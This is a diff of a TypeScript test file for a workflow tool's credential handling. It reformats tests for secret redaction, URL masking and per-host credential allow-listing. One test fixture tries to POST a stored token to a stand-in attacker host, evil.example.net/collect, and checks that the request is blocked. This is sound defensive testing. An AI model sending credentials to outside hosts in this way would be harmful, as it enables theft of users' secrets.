@@ -23,7 +23,11 @@ function vault(values: Record<string, { value: string; hosts: string[] }>): Cred
       used.clear();
       for (const name of names) if (!hostAllowed(values[name]!.hosts, host)) throw new CredentialHostError(name, values[name]!.hosts);
     },
-    redact: (v) => redactValues(v, Object.values(values).map((c) => c.value)),
+    redact: (v) =>
+      redactValues(
+        v,
+        Object.values(values).map((c) => c.value),
+      ),
   };
 }
 
@@ -38,12 +42,17 @@ describe('credential helpers', () => {
   });
 
   it('masks credential-like query parameters only', () => {
-    expect(maskUrlParams('https://a.example/x?q=cake&api_key=abc&access_token=t0k#top')).toBe('https://a.example/x?q=cake&api_key=[secret]&access_token=[secret]#top');
+    expect(maskUrlParams('https://a.example/x?q=cake&api_key=abc&access_token=t0k#top')).toBe(
+      'https://a.example/x?q=cake&api_key=[secret]&access_token=[secret]#top',
+    );
     expect(maskUrlParams('https://a.example/x?q=cake')).toBe('https://a.example/x?q=cake');
   });
 
   it('redacts values deep inside results, longest first', () => {
-    expect(redactValues({ a: ['Bearer abcd1234', { b: 'x abcd1234abcd y' }], n: 3 }, ['abcd1234', 'abcd1234abcd'])).toEqual({ a: ['Bearer [secret]', { b: 'x [secret] y' }], n: 3 });
+    expect(redactValues({ a: ['Bearer abcd1234', { b: 'x abcd1234abcd y' }], n: 3 }, ['abcd1234', 'abcd1234abcd'])).toEqual({
+      a: ['Bearer [secret]', { b: 'x [secret] y' }],
+      n: 3,
+    });
   });
 
   it('finds the credentials a template reads', () => {
@@ -54,9 +63,19 @@ describe('credential helpers', () => {
 describe('secrets in steps', () => {
   it('renders a credential into an HTTP request for its host, and masks it in the result', async () => {
     const sent: HttpRequest[] = [];
-    const http = async (req: HttpRequest) => (sent.push(req), { status: 200, headers: {}, body: `{"echo":"${req.headers?.authorization}"}` });
+    const http = async (req: HttpRequest) => (
+      sent.push(req), { status: 200, headers: {}, body: `{"echo":"${req.headers?.authorization}"}` }
+    );
     const ctx = makeContext({ services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) } });
-    const result = await httpRequest({ method: 'GET', url: 'https://shop.example.com/o?key={{ secrets.shop }}', headers: { authorization: 'Bearer {{ secrets.shop }}' }, saveTo: 'r' }, ctx);
+    const result = await httpRequest(
+      {
+        method: 'GET',
+        url: 'https://shop.example.com/o?key={{ secrets.shop }}',
+        headers: { authorization: 'Bearer {{ secrets.shop }}' },
+        saveTo: 'r',
+      },
+      ctx,
+    );
     expect(sent[0]).toMatchObject({ url: 'https://shop.example.com/o?key=tok-123456', headers: { authorization: 'Bearer tok-123456' } });
     expect(result.vars?.r).toMatchObject({ body: { echo: 'Bearer [secret]' } });
     expect(result.log).toBe('GET shop.example.com -> 200');
@@ -65,7 +84,10 @@ describe('secrets in steps', () => {
   it('stops before calling a host the credential was not saved for', async () => {
     const sent: HttpRequest[] = [];
     const http = async (req: HttpRequest) => (sent.push(req), { status: 200, headers: {}, body: '' });
-    const ctx = makeContext({ vars: { where: 'evil.example.net' }, services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) } });
+    const ctx = makeContext({
+      vars: { where: 'evil.example.net' },
+      services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) },
+    });
     const result = await httpRequest({ method: 'POST', url: 'https://{{ vars.where }}/collect', body: '{{ secrets.shop }}' }, ctx);
     expect(result.error).toEqual({ field: 'url', message: "The credential 'shop' may only be sent to shop.example.com" });
     expect(sent).toEqual([]);
@@ -75,8 +97,14 @@ describe('secrets in steps', () => {
     const sent: HttpRequest[] = [];
     const http = async (req: HttpRequest) => (sent.push(req), { status: 200, headers: {}, body: '' });
     const ctx = makeContext({ services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) } });
-    const result = await httpRequest({ method: 'GET', url: 'https://shop.example.com/', headers: { authorization: 'Bearer {{ secrets.shopify }}' } }, ctx);
-    expect(result.error).toEqual({ field: 'headers.authorization', message: 'Add the credential "shopify" in Settings → Credentials: this step reads {{ secrets.shopify }}.' });
+    const result = await httpRequest(
+      { method: 'GET', url: 'https://shop.example.com/', headers: { authorization: 'Bearer {{ secrets.shopify }}' } },
+      ctx,
+    );
+    expect(result.error).toEqual({
+      field: 'headers.authorization',
+      message: 'Add the credential "shopify" in Settings → Credentials: this step reads {{ secrets.shopify }}.',
+    });
     expect(sent).toEqual([]);
   });
 
@@ -89,7 +117,12 @@ describe('secrets in steps', () => {
       nodes: [
         { id: 't', type: 'trigger.message_received', position: { x: 0, y: 0 }, config: {} },
         { id: 's', type: 'action.send_message', position: { x: 0, y: 1 }, config: { text: 'Key {{ secrets.shop }}' } },
-        { id: 'h', type: 'action.http_request', position: { x: 0, y: 2 }, config: { method: 'GET', url: 'https://a.example/?k={{ secrets.shop }}' } },
+        {
+          id: 'h',
+          type: 'action.http_request',
+          position: { x: 0, y: 2 },
+          config: { method: 'GET', url: 'https://a.example/?k={{ secrets.shop }}' },
+        },
       ],
       edges: [
         { id: 'e1', source: 't', target: 's' },
